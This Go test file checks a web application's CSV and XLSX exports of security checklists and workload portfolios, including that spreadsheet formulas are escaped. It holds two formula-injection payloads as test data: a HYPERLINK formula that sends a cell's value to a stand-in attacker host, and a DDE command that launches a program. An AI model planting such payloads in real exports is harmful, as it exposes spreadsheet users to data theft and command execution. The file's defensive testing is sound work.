package web_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/srmhq/srm"
	"github.com/srmhq/srm/exchange"
	"github.com/srmhq/srm/web"
)

// headers is the header row of cols.
func headers(cols []exchange.Column) []string {
	out := make([]string, len(cols))
	for i, c := range cols {
		out[i] = c.Header
	}
	return out
}

// readCSV is the records of a CSV download.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the download is not CSV: %v\n%s", err, snippet(string(body)))
	}
	return records
}

// readXLSX is the rows of the first sheet of an XLSX download, each padded
// to width cells (excelize leaves out empty cells at the end of a row).
func readXLSX(t *testing.T, body []byte, width int) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("the download does not open as XLSX: %v", err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		for len(rows[i]) < width {
			rows[i] = append(rows[i], "")
		}
	}
	return rows
}

// column is the index of the column headed name.
func column(t *testing.T, header []string, name string) int {
	t.Helper()
	i := slices.Index(header, name)
	if i < 0 {
		t.Fatalf("no column %q in %q", name, header)
	}
	return i
}

// wantDownload checks that rec is a download of format f named like
// prefix, and returns its body.
func wantDownload(t *testing.T, what string, rec interface {
	Result() *http.Response
}, f exchange.Format, prefix string) []byte {
	t.Helper()
	res := rec.Result()
	body := new(bytes.Buffer)
	_, _ = body.ReadFrom(res.Body)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("%s: status %d, body %s", what, res.StatusCode, snippet(body.String()))
	}
	if got := res.Header.Get("Content-Type"); got != f.ContentType() {
		t.Errorf("%s: Content-Type %q, want %q", what, got, f.ContentType())
	}
	cd := res.Header.Get("Content-Disposition")
	name, ok := strings.CutPrefix(cd, `attachment; filename="`)
	if !ok || !strings.HasPrefix(name, prefix) || !strings.HasSuffix(name, f.Ext()+`"`) {
		t.Errorf("%s: Content-Disposition %q, want an attachment %s…%s", what, cd, prefix, f.Ext())
	}
	if strings.ContainsAny(strings.TrimSuffix(name, `"`), "\"\\/;\r\n ") {
		t.Errorf("%s: unsafe file name in %q", what, cd)
	}
	return body.Bytes()
}

// A workload's checklist downloads as CSV and XLSX with the filter the
// page had: one row per control the page shows, with the owner, who
// completed it and when, and the note (a formula in it made inert), and a
// link on the page that carries the filter.
func TestChecklistExport(t *testing.T) {
	h := newHarness(t)
	w := h.workload(`Payroll "=x" / 2`, srm.PaaS)
	o := h.owner("Ops team")
	const title = "Single sign-on and multi-factor authentication"
	const note = `=HYPERLINK("https://evil.example/?"&A1,"click")`
	wantStatus(t, "complete", h.submit(h.statusForm(w.ID, title), url.Values{"owner": {o.Name}, "complete": {"1"}, "note": {note}}), http.StatusSeeOther)
	s := h.status(w.ID, h.controlID(title))
	if !s.Complete || s.CompletedBy == "" || s.CompletedAt.IsZero() {
		t.Fatalf("status after saving: %+v", s)
	}

	viewer := h.as(srm.RoleViewer)
	for _, filter := range []string{"", "state=complete", "layer=identity", "state=open"} {
		page := viewer.page(workloadPath(w.ID) + "?" + filter)
		shown, err := strconv.Atoi(text(page.Find(tid("shown-count"))))
		if err != nil {
			t.Fatalf("filter %q: shown count %q", filter, text(page.Find(tid("shown-count"))))
		}
		for _, f := range []exchange.Format{exchange.CSV, exchange.XLSX} {
			link, ok := page.Find(tid("checklist-" + string(f))).Attr("href")
			if !ok {
				t.Fatalf("filter %q: no %s link on the checklist", filter, f)
			}
			u, _ := url.Parse(link)
			if u.Path != workloadPath(w.ID)+"/checklist"+f.Ext() || u.Query().Encode() != mustQuery(t, filter).Encode() {
				t.Errorf("filter %q: %s link %q does not carry the filter", filter, f, link)
			}
			body := wantDownload(t, link, viewer.get(link), f, "srm-checklist-"+itoa(w.ID)+"-payroll-x-2-")
			var rows [][]string
			if f == exchange.CSV {
				rows = readCSV(t, body)
			} else {
				rows = readXLSX(t, body, len(exchange.ChecklistColumns))
			}
			if !slices.Equal(rows[0], headers(exchange.ChecklistColumns)) {
				t.Fatalf("%s: header %q", link, rows[0])
			}
			if got := len(rows) - 1; got != shown {
				t.Errorf("%s: %d rows, the page shows %d controls", link, got, shown)
			}
			hd := rows[0]
			var found []string
			for _, r := range rows[1:] {
				if r[column(t, hd, exchange.ColWorkload)] != exchange.SafeCell(w.Name) {
					t.Errorf("%s: workload cell %q", link, r[column(t, hd, exchange.ColWorkload)])
				}
				if r[column(t, hd, exchange.ColControl)] == title {
					found = r
				}
			}
			wantTitle := filter != "state=open"
			if (found != nil) != wantTitle {
				t.Fatalf("%s: row of %q present %v, want %v", link, title, found != nil, wantTitle)
			}
			if found == nil {
				continue
			}
			want := map[string]string{
				exchange.ColOwner:       o.Name,
				exchange.ColComplete:    "yes",
				exchange.ColCompletedBy: s.CompletedBy,
				exchange.ColCompletedAt: s.CompletedAt.UTC().Format(time.RFC3339Nano),
				exchange.ColNote:        "'" + note,
				exchange.ColParty:       srm.Customer.Label(),
			}
			for col, v := range want {
				if got := found[column(t, hd, col)]; got != v {
					t.Errorf("%s: %s = %q, want %q", link, col, got, v)
				}
			}
		}
	}
}

// mustQuery parses a query string.
func mustQuery(t *testing.T, s string) url.Values {
	t.Helper()
	q, err := url.ParseQuery(s)
	if err != nil {
		t.Fatal(err)
	}
	return q
}

// Exports need a session: a signed-out request is sent to sign in, and
// one for a workload that does not exist is 404.
func TestExportsNeedSignIn(t *testing.T) {
	h := newHarness(t)
	w := h.workload("Payroll", srm.PaaS)
	out := h.signedOut()
	for _, p := range []string{workloadPath(w.ID) + "/checklist.csv", workloadPath(w.ID) + "/checklist.xlsx", "/portfolio.csv", "/portfolio.xlsx"} {
		rec := out.get(p)
		if rec.Code != http.StatusSeeOther || !strings.HasPrefix(rec.Header().Get("Location"), "/signin") {
			t.Errorf("signed out GET %s: status %d, Location %q; want a redirect to sign in", p, rec.Code, rec.Header().Get("Location"))
		}
		if rec.Header().Get("Content-Disposition") != "" {
			t.Errorf("signed out GET %s: a download", p)
		}
	}
	wantStatus(t, "missing workload", h.get("/workloads/999999/checklist.csv"), http.StatusNotFound)
}

// The portfolio downloads with the page's filter and order, every
// workload it selects across many keyset pages, and a link on the page
// carrying the filter.
func TestPortfolioExport(t *testing.T) {
	h := newHarness(t)
	var paas []string
	for i := range 7 {
		name := "PaaS " + strconv.Itoa(i)
		if i == 3 {
			name = "=cmd|' /C calc'!A0"
		}
		paas = append(paas, h.workload(name, srm.PaaS).Name)
		h.workload("IaaS "+strconv.Itoa(i), srm.IaaS)
	}
	defer web.SetExportPageSize(2)() // 7 PaaS workloads: four pages, the last one short
	viewer := h.as(srm.RoleViewer)
	page := viewer.page("/?model=paas&sort=name")
	for _, f := range []exchange.Format{exchange.CSV, exchange.XLSX} {
		link, ok := page.Find(tid("portfolio-" + string(f))).Attr("href")
		if !ok {
			t.Fatalf("no %s link on the portfolio", f)
		}
		u, _ := url.Parse(link)
		if u.Path != "/portfolio"+f.Ext() || u.Query().Get("model") != "paas" || u.Query().Get("sort") != "name" {
			t.Errorf("%s link %q does not carry the filter", f, link)
		}
		body := wantDownload(t, link, viewer.get(link), f, "srm-portfolio-")
		var rows [][]string
		if f == exchange.CSV {
			rows = readCSV(t, body)
		} else {
			rows = readXLSX(t, body, len(exchange.PortfolioColumns))
		}
		if !slices.Equal(rows[0], headers(exchange.PortfolioColumns)) {
			t.Fatalf("%s: header %q", link, rows[0])
		}
		var got []string
		for _, r := range rows[1:] {
			got = append(got, exchange.UnescapeCell(r[0]))
			if r[0] == paas[3] {
				t.Errorf("%s: the formula name came out live: %q", link, r[0])
			}
			if r[column(t, rows[0], exchange.ColModel)] != srm.PaaS.Label() {
				t.Errorf("%s: row %q is not PaaS", link, r)
			}
		}
		want := slices.Clone(paas)
		slices.SortFunc(want, func(a, b string) int { return strings.Compare(strings.ToLower(a), strings.ToLower(b)) })
		if !slices.Equal(got, want) {
			t.Errorf("%s: workloads %q, want %q in this order", link, got, want)
		}
	}
}

// A download gets the export's time budget, not a page's: with a page
// budget too short for any statement, the page fails and both exports of
// the same checklist still arrive whole.
func TestExportsGetTheExportBudget(t *testing.T) {
	h := newHarness(t)
	w := h.workload("Payroll", srm.PaaS)
	// The same session, on a server whose pages may not take a nanosecond.
	hurried := &harness{t: t, st: h.st, pool: h.pool, cookie: h.cookie, csrf: h.csrf,
		srv: newServer(t, h.st, web.Config{RequestTimeout: time.Nanosecond, ExportTimeout: time.Minute})}
	if rec := hurried.get(workloadPath(w.ID)); rec.Code != http.StatusServiceUnavailable {
		t.Fatalf("the page with a nanosecond's budget: status %d, want 503", rec.Code)
	}
	for _, f := range []exchange.Format{exchange.CSV, exchange.XLSX} {
		p := workloadPath(w.ID) + "/checklist" + f.Ext()
		wantDownload(t, p, hurried.get(p), f, "srm-checklist-")
	}
}
